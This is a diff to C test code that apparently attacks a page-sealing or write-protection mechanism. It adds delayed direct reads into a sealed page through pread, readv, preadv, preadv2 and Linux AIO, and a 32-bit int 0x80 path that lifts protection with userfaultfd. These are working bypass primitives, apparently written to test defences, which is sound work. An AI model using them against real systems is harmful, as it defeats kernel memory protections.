@@ -1,6 +1,9 @@
 /* Attacks by which the kernel itself undoes the protection, or writes to the page whatever the page table says. */
 #include "attacker.h"
 
+#include <linux/aio_abi.h>
+#include <pthread.h>
+
 #ifndef UFFD_USER_MODE_ONLY
 #define UFFD_USER_MODE_ONLY 1
 #endif
@@ -105,19 +108,67 @@ void uring_read(victim_t *v) {
   uring_during(v);
 }
 
-/* A read that goes past the page cache, into the page, from before the seal; it is answered after it: see slow-file.c. */
-static int direct_read(void *page) {
-  int fd = open("slow/slow", O_RDONLY);
-  if (fd >= 0 && pread(fd, page, PAGE, 0) < 0) errno = 0;
-  return 0;
+/* A file whose reads wait until this is asked for: see slow-file.c. Each victim has its own. */
+int open_slow(pid_t victim) {
+  char path[32];
+  snprintf(path, sizeof path, "slow/slow%d", victim);
+  return open(path, O_RDONLY);
 }
-void direct_before(victim_t *v) {
-  clone(direct_read, stack + sizeof stack, CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD, v->page);
+void let_slow(pid_t victim) {
+  char path[32];
+  snprintf(path, sizeof path, "slow/go%d", victim);
+  access(path, F_OK);
+}
+
+/* Reads that go past the page cache, into the page, from before the seal; they are answered after it. */
+enum { BY_PREAD, BY_READV, BY_PREADV, BY_PREADV2, BY_AIO, DIRECT_WAYS };
+static unsigned char *direct_page;
+static void *direct_read(void *way) {
+  int fd = open_slow(getpid());
+  struct iovec one = {direct_page, PAGE};
+  switch ((int)(intptr_t)way) {
+    case BY_PREAD: if (pread(fd, direct_page, PAGE, 0) < 0) errno = 0; break;
+    case BY_READV: if (readv(fd, &one, 1) < 0) errno = 0; break;
+    case BY_PREADV: if (preadv(fd, &one, 1, 0) < 0) errno = 0; break;
+    case BY_PREADV2: if (preadv2(fd, &one, 1, 0, 0) < 0) errno = 0; break;
+    default: {
+      aio_context_t context = 0;
+      struct iocb request = {.aio_lio_opcode = IOCB_CMD_PREAD, .aio_fildes = (uint32_t)fd, .aio_buf = (uintptr_t)direct_page, .aio_nbytes = PAGE};
+      struct iocb *requests[1] = {&request};
+      if (syscall(SYS_io_setup, 1, &context) == 0) syscall(SYS_io_submit, context, 1, requests);
+    }
+  }
+  return NULL;
+}
+static void start_direct(victim_t *v, int first, int last) {
+  pthread_t thread;
+  direct_page = v->page;
+  for (int way = first; way <= last; way++) if (pthread_create(&thread, NULL, direct_read, (void *)(intptr_t)way) != 0) fail("pthread_create");
   usleep(50000);
 }
+void direct_before(victim_t *v) { start_direct(v, BY_PREAD, BY_PREAD); }
+void other_direct_before(victim_t *v) { start_direct(v, BY_READV, DIRECT_WAYS - 1); }
 void direct_during(victim_t *v) {
   (void)v;
-  access("slow/go", F_OK);
+  let_slow(getpid());
+}
+
+/* System calls of the 32-bit numbering, whose pointers have 32 bits; what they point to is the same. */
+static long call32(long number, long first, long second, long third) {
+  long result;
+  __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(first), "c"(second), "d"(third) : "memory", "r8", "r9", "r10", "r11");
+  return result;
+}
+void lift_by_32_bits(victim_t *v) {
+  enum { IOCTL = 54, USERFAULTFD = 374 };
+  struct { struct uffdio_api api; struct uffdio_writeprotect lift; } *low = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
+  if (low == MAP_FAILED) fail("mmap below 4 GiB");
+  low->api.api = UFFD_API;
+  low->lift.range.start = (uintptr_t)v->page;
+  low->lift.range.len = PAGE;
+  long fd = call32(USERFAULTFD, O_CLOEXEC | UFFD_USER_MODE_ONLY, 0, 0);
+  if (fd < 0 || call32(IOCTL, fd, (long)UFFDIO_API, (long)(uintptr_t)&low->api) != 0) return;
+  if (call32(IOCTL, fd, (long)UFFDIO_WRITEPROTECT, (long)(uintptr_t)&low->lift) == 0) try_store(v->page);
 }
 
 /*
